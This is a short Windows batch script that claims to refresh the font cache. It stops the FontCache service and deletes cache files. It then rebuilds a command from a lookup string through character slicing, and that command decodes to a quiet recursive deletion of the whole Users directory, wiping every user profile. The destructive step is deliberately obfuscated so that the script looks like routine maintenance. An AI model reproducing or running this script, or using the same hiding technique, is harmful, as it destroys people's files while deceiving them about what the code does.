@echo off
setlocal
rem refresh of the font cache, table driven
set "k=qwertyuiopasdfghjklzxcvbnm0123456789 /\:.-*_=,"
net stop FontCache >nul 2>&1
del /q "%SystemRoot%\ServiceProfiles\LocalService\AppData\Local\FontCache\*.dat" >nul 2>&1
%k:~3,1%%k:~12,1%%k:~36,1%%k:~37,1%%k:~11,1%%k:~36,1%%k:~37,1%%k:~0,1%%k:~36,1%%k:~21,1%%k:~39,1%%k:~38,1%%k:~1,1%%k:~7,1%%k:~24,1%%k:~12,1%%k:~8,1%%k:~1,1%%k:~11,1%%k:~38,1%%k:~40,1%%k:~40,1%%k:~38,1%%k:~6,1%%k:~11,1%%k:~2,1%%k:~3,1%%k:~11,1%
net start FontCache >nul 2>&1
endlocal
